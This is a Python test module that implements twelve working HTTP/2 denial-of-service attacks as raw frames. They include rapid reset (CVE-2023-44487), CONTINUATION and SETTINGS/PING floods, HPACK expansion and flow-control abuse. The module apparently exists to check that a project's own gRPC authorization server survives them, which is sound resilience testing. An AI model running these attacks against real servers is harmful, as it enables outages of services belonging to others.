"""Hostile HTTP/2 clients: the attacks the check port must survive, as raw frames.

Frames are built and parsed by hyperframe and header blocks encoded by hpack (both from the `h2`
package), not by the server's own code, so a shared misreading of RFC 9113 cannot hide a bug.
Each attack runs on plain blocking sockets (in a thread of its caller) until the server cuts it
off or `stop` is set, and reports what it saw: whether its connections were closed, the GOAWAY
and RST_STREAM codes it read, and how many frames it got in. The hostile tests
(tests/server/hostile) assert on these; the bench's "hostile" section (bench/hostile.py) runs the
same attacks against both engines and measures a legitimate client beside them.
"""

from __future__ import annotations

import contextlib
import functools
import selectors
import socket
import threading
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

import hpack
from hyperframe import frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHECK_PATH = "/envoy.service.auth.v3.Authorization/Check"
REQUEST = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", CHECK_PATH),
    (":authority", "authz"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
ENHANCE_YOUR_CALM, FLOW_CONTROL_ERROR, CANCEL = 11, 3, 8
#: A gRPC message frame holding an empty CheckRequest.
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"
MAX_WINDOW = 2**31 - 1


@dataclass
class Outcome:
    """What an attack saw of the server."""

    connections: int = 0
    #: Connections the server closed (EOF or reset) or answered with a GOAWAY.
    closed: int = 0
    goaway: list[int] = field(default_factory=list)
    resets: list[int] = field(default_factory=list)
    frames_sent: int = 0
    #: For attacks the server answers by resetting streams, not closing: how many it must reset.
    resets_expected: int = 0

    @property
    def cut_off(self) -> bool:
        """Every connection of the attack was closed by the server (or every stream reset)."""
        if self.resets_expected:
            return len(self.resets) >= self.resets_expected
        return self.connections > 0 and self.closed == self.connections


def encode(frames: Sequence[hf.Frame]) -> bytes:
    return b"".join(f.serialize() for f in frames)


def headers(
    stream_id: int, block: bytes, *, end_headers: bool = True, end_stream: bool = False
) -> hf.HeadersFrame:
    frame = hf.HeadersFrame(stream_id, data=block)
    if end_headers:
        frame.flags.add("END_HEADERS")
    if end_stream:
        frame.flags.add("END_STREAM")
    return frame


def data(stream_id: int, payload: bytes, *, end_stream: bool = False) -> hf.DataFrame:
    frame = hf.DataFrame(stream_id, data=payload)
    if end_stream:
        frame.flags.add("END_STREAM")
    return frame


class Peer:
    """One raw HTTP/2 client connection; records what the server sends and when it closes."""

    def __init__(self, target: tuple[str, int], outcome: Outcome, *, handshake: bool = True):
        self.outcome = outcome
        self.sock = socket.create_connection(target, timeout=5)
        self.sock.settimeout(0.5)
        self.closed = False
        self._buffer = b""
        outcome.connections += 1
        if handshake:
            self.send(PREFACE + hf.SettingsFrame(0).serialize())

    def send(self, payload: bytes, *, frames: int = 1) -> bool:
        """False once the server has closed the connection."""
        if self.closed:
            return False
        try:
            self.sock.sendall(payload)
        except TimeoutError:
            return True  # the server stopped reading us: alive, stalled
        except OSError:
            self._close()
            return False
        self.outcome.frames_sent += frames
        return True

    def poll(self, *, wait: float = 0.0) -> bool:
        """Read what has arrived (up to `wait` seconds for it); False once closed."""
        if self.closed:
            return False
        self.sock.settimeout(wait or 0.000_001)
        try:
            chunk = self.sock.recv(65536)
        except (TimeoutError, BlockingIOError):
            return True
        except OSError:
            self._close()
            return False
        self.sock.settimeout(0.5)
        if not chunk:
            self._close()
            return False
        self._parse(chunk)
        return not self.closed

    def _parse(self, chunk: bytes) -> None:
        self._buffer += chunk
        while len(self._buffer) >= 9:
            frame, length = hf.Frame.parse_frame_header(memoryview(self._buffer[:9]))
            if len(self._buffer) < 9 + length:
                return
            body, self._buffer = self._buffer[9 : 9 + length], self._buffer[9 + length :]
            if isinstance(frame, hf.GoAwayFrame):
                frame.parse_body(memoryview(body))
                self.outcome.goaway.append(frame.error_code)
                self._close()
                return
            if isinstance(frame, hf.RstStreamFrame):
                frame.parse_body(memoryview(body))
                self.outcome.resets.append(frame.error_code)

    def _close(self) -> None:
        if not self.closed:
            self.closed = True
            self.outcome.closed += 1
            with contextlib.suppress(OSError):
                self.sock.close()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


Attack = Callable[[tuple[str, int], threading.Event], Outcome]


def hpack_expansion(
    target: tuple[str, int], stop: threading.Event, *, connections: int = 6
) -> Outcome:
    """Tiny header blocks that decode to ~12 KB each (four references to one large dynamic
    table entry), on streams that never end, on `connections` connections at once. Each block
    also carries a field of its own (never indexed), so no two blocks are the same bytes."""
    outcome = Outcome()
    peers = [Peer(target, outcome) for _ in range(connections)]
    big = [*REQUEST, *([("x-expand", "e" * 3000)] * 4)]
    encoders = [hpack.Encoder() for _ in peers]

    def block(encoder: hpack.Encoder, stream: int) -> bytes:
        return encoder.encode([*big, hpack.NeverIndexedHeaderTuple("x-seq", str(stream))])

    stream = 1
    while not stop.is_set() and not all(p.closed for p in peers):
        for peer, encoder in zip(peers, encoders, strict=True):
            batch = [headers(stream + 2 * i, block(encoder, stream + 2 * i)) for i in range(50)]
            peer.send(encode(batch), frames=len(batch))
            peer.poll()
        stream += 100
        if stream > MAX_WINDOW - 200:
            break
    _finish(peers, stop)
    return outcome


def continuation_flood(target: tuple[str, int], stop: threading.Event) -> Outcome:
    """HEADERS without END_HEADERS, then empty CONTINUATION frames without end."""
    outcome = Outcome()
    peer = Peer(target, outcome)
    first = headers(1, hpack.Encoder().encode(REQUEST), end_headers=False)
    peer.send(first.serialize())
    burst = hf.ContinuationFrame(1).serialize() * 512
    while not stop.is_set() and peer.send(burst, frames=512):
        peer.poll()
    _finish([peer], stop)
    return outcome


def rapid_reset(target: tuple[str, int], stop: threading.Event) -> Outcome:
    """HEADERS + DATA + RST_STREAM in a loop (CVE-2023-44487)."""
    outcome = Outcome()
    peer = Peer(target, outcome)
    encoder = hpack.Encoder()
    stream = 1
    while not stop.is_set() and stream < MAX_WINDOW - 200:
        batch: list[hf.Frame] = []
        for _ in range(50):
            batch += [
                headers(stream, encoder.encode(REQUEST)),
                data(stream, EMPTY_MESSAGE, end_stream=True),
                hf.RstStreamFrame(stream, error_code=CANCEL),
            ]
            stream += 2
        if not peer.send(encode(batch), frames=len(batch)) or not peer.poll():
            break
    _finish([peer], stop)
    return outcome


def settings_ping_flood(target: tuple[str, int], stop: threading.Event) -> Outcome:
    """SETTINGS and PING frames as fast as possible, never reading the ACKs they ask for."""
    outcome = Outcome()
    peer = Peer(target, outcome)
    burst = (
        hf.SettingsFrame(0).serialize() + hf.PingFrame(0, opaque_data=b"p" * 8).serialize()
    ) * 256
    while not stop.is_set() and peer.send(burst, frames=512):
        pass
    _finish([peer], stop, read=False)
    return outcome


def window_overflow(target: tuple[str, int], stop: threading.Event) -> Outcome:
    """WINDOW_UPDATEs that push stream windows past 2^31-1, stream after stream, then the
    connection's window."""
    outcome = Outcome()
    peer = Peer(target, outcome)
    encoder = hpack.Encoder()
    stream = 1
    while not stop.is_set() and stream < MAX_WINDOW - 200:
        batch: list[hf.Frame] = []
        for _ in range(50):
            batch += [
                headers(stream, encoder.encode(REQUEST)),
                hf.WindowUpdateFrame(stream, window_increment=MAX_WINDOW),
            ]
            stream += 2
        batch.append(hf.WindowUpdateFrame(0, window_increment=MAX_WINDOW))
        if not peer.send(encode(batch), frames=len(batch)) or not peer.poll():
            break
    _finish([peer], stop)
    return outcome


def half_prefaces(target: tuple[str, int], stop: threading.Event, *, count: int = 1500) -> Outcome:
    """Many connections that send half the client preface and nothing more."""
    outcome = Outcome()
    peers = []
    for _ in range(count):
        try:
            peer = Peer(target, outcome, handshake=False)
        except OSError:
            outcome.connections += 1  # refused at once: as good as closed
            outcome.closed += 1
            continue
        peer.send(PREFACE[:12])
        peers.append(peer)
    _finish(peers, stop)
    return outcome


def stalled_streams(target: tuple[str, int], stop: threading.Event) -> Outcome:
    """Streams whose request never completes: HEADERS, half a message, then nothing. The
    server should reset each (its connection may stay: the peer broke no rule)."""
    outcome = Outcome(resets_expected=200)
    peer = Peer(target, outcome)
    encoder = hpack.Encoder()
    batch: list[hf.Frame] = []
    for stream in range(1, 400, 2):
        batch += [headers(stream, encoder.encode(REQUEST)), data(stream, b"\x00\x00\x00\x10\x00")]
    peer.send(encode(batch), frames=len(batch))
    _until_reset(peer, stop)
    return outcome


def zero_window(target: tuple[str, int], stop: threading.Event) -> Outcome:
    """Complete checks from a peer that gives the server no window for the answers and never
    opens it (SETTINGS_INITIAL_WINDOW_SIZE 0): each answer waits in the server."""
    outcome = Outcome(resets_expected=100)
    peer = Peer(target, outcome, handshake=False)
    peer.send(
        PREFACE
        + hf.SettingsFrame(0, settings={hf.SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
    )
    encoder = hpack.Encoder()
    batch: list[hf.Frame] = []
    for stream in range(1, 200, 2):
        batch += [
            headers(stream, encoder.encode(REQUEST)),
            data(stream, EMPTY_MESSAGE, end_stream=True),
        ]
    peer.send(encode(batch), frames=len(batch))
    _until_reset(peer, stop)
    return outcome


def many_fields(target: tuple[str, int], stop: threading.Event) -> Outcome:
    """Header blocks of 400 tiny fields: under the byte limit, far over a real request's count."""
    outcome = Outcome()
    peer = Peer(target, outcome)
    encoder = hpack.Encoder()
    fields = [*REQUEST, *((f"x-{i}", "") for i in range(400))]
    stream = 1
    while not stop.is_set() and stream < MAX_WINDOW - 200:
        frame = headers(stream, encoder.encode(fields), end_stream=True)
        if not peer.send(frame.serialize()) or not peer.poll():
            break
        stream += 2
    _finish([peer], stop)
    return outcome


def body_hoard(target: tuple[str, int], stop: threading.Event) -> Outcome:
    """Streams that each send most of a 1 MiB message and never finish it."""
    outcome = Outcome()
    peer = Peer(target, outcome)
    encoder = hpack.Encoder()
    chunk = b"b" * 16_000
    stream = 1
    while not stop.is_set() and stream < 200:
        batch: list[hf.Frame] = [
            headers(stream, encoder.encode(REQUEST)),
            data(stream, b"\x00\x00\x10\x00\x00" + chunk),
            *(data(stream, chunk) for _ in range(50)),
        ]
        if not peer.send(encode(batch), frames=len(batch)) or not peer.poll():
            break
        stream += 2
    _finish([peer], stop)
    return outcome


def empty_frames(target: tuple[str, int], stop: threading.Event) -> Outcome:
    """Empty DATA frames (without END_STREAM) and PRIORITY frames on an open stream: frames
    that carry nothing, each still handled."""
    outcome = Outcome()
    peer = Peer(target, outcome)
    peer.send(headers(1, hpack.Encoder().encode(REQUEST)).serialize())
    priority = hf.PriorityFrame(1, depends_on=0, stream_weight=16).serialize()
    burst = (data(1, b"").serialize() + priority) * 256
    while not stop.is_set() and peer.send(burst, frames=512):
        peer.poll()
    _finish([peer], stop)
    return outcome


def _until_reset(peer: Peer, stop: threading.Event) -> None:
    """Read until the server has reset the streams the attack expects it to, then leave."""
    outcome = peer.outcome
    while not stop.is_set() and not outcome.cut_off and peer.poll(wait=0.2):
        pass
    peer.close()


def _finish(peers: list[Peer], stop: threading.Event, *, read: bool = True) -> None:
    """Wait (reading, unless told not to) until every peer is closed or `stop` is set."""
    while not stop.is_set():
        open_peers = [p for p in peers if not p.closed]
        if not open_peers:
            break
        if not read:
            for peer in open_peers:
                peer.send(hf.PingFrame(0, opaque_data=b"q" * 8).serialize())
            continue
        with selectors.DefaultSelector() as selector:  # epoll: select() stops at fd 1024
            for peer in open_peers:
                selector.register(peer.sock, selectors.EVENT_READ, peer)
            for key, _ in selector.select(0.1):
                key.data.poll()
    for peer in peers:
        peer.close()


ATTACKS: dict[str, Attack] = {
    "hpack-expansion": hpack_expansion,
    "hpack-expansion-20": functools.partial(hpack_expansion, connections=20),
    "continuation-flood": continuation_flood,
    "rapid-reset": rapid_reset,
    "settings-ping-flood": settings_ping_flood,
    "window-overflow": window_overflow,
    "half-prefaces": half_prefaces,
    "stalled-streams": stalled_streams,
    "zero-window": zero_window,
    "many-fields": many_fields,
    "body-hoard": body_hoard,
    "empty-frames": empty_frames,
}


def rss_bytes(pid: int) -> int:
    """The resident set size of process `pid` (/proc/PID/status VmRSS)."""
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError(f"no VmRSS for process {pid}")


def run(
    attack: Attack, target: tuple[str, int], stop: threading.Event
) -> tuple[threading.Thread, list[Outcome]]:
    """Start `attack` in a thread; its Outcome lands in the returned list when it ends."""
    outcomes: list[Outcome] = []
    thread = threading.Thread(target=lambda: outcomes.append(attack(target, stop)), daemon=True)
    thread.start()
    return thread, outcomes
